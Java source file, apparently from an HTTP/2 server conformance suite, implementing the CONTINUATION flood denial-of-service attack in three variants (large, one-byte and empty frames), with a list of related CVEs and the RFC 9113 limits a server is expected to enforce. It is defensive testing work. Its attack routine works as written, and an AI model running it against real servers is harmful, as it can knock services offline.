package dev.gannet.conformance.gauntlet.attack;

import dev.gannet.conformance.gauntlet.wire.Frames;
import dev.gannet.conformance.gauntlet.wire.RawConnection;
import dev.gannet.conformance.gauntlet.wire.Requests;
import java.io.IOException;
import java.util.Arrays;

/** A header block that never ends. */
enum ContinuationFlood implements Attack {
  /** Memory: frames as long as may be. */
  BIG("continuation-big", 16_000, "a header block exceeds"),
  /** Many frames: one for each octet. */
  TINY("continuation-tiny", 1, "(maxContinuationFrames)"),
  /** Empty frames: a limit in bytes does not notice them. */
  EMPTY("continuation-empty", 0, "a CONTINUATION is empty");

  /**
   * These were published for several servers at the same time, except for the first and the last.
   */
  private static final String CVES =
      "2023-45288 2024-27316 2024-27983 2024-27919 2024-30255 2024-28182"
          + " 2024-31309 2024-24549 2024-2653 2024-2758 2026-33871";

  private final String name;
  private final int fragmentBytes;
  private final String reason;

  ContinuationFlood(String name, int fragmentBytes, String reason) {
    this.name = name;
    this.fragmentBytes = fragmentBytes;
    this.reason = reason;
  }

  @Override
  public AttackDescription description() {
    return AttackDescription.cutOff(
            reason,
            name,
            "RFC 9113 §6.10, §10.5.1",
            "bounds the frames of a block and the octets of a block, and takes no empty frame")
        .published(CVES);
  }

  @Override
  public void attack(Front front) throws IOException {
    RawConnection connection = front.connect();
    connection.acknowledgeNothing();
    connection.send(Frames.headers(1, Frames.NONE, Requests.to(Requests.UNARY).next()));
    byte[] more = Frames.continuation(1, Frames.NONE, fragment());
    while (front.goesOn(connection)) {
      connection.send(more);
    }
  }

  /** Static field 2, {@code :method: GET}, repeated: valid HPACK, but not a valid request. */
  private byte[] fragment() {
    byte[] fragment = new byte[fragmentBytes];
    Arrays.fill(fragment, (byte) 0x82);
    return fragment;
  }
}
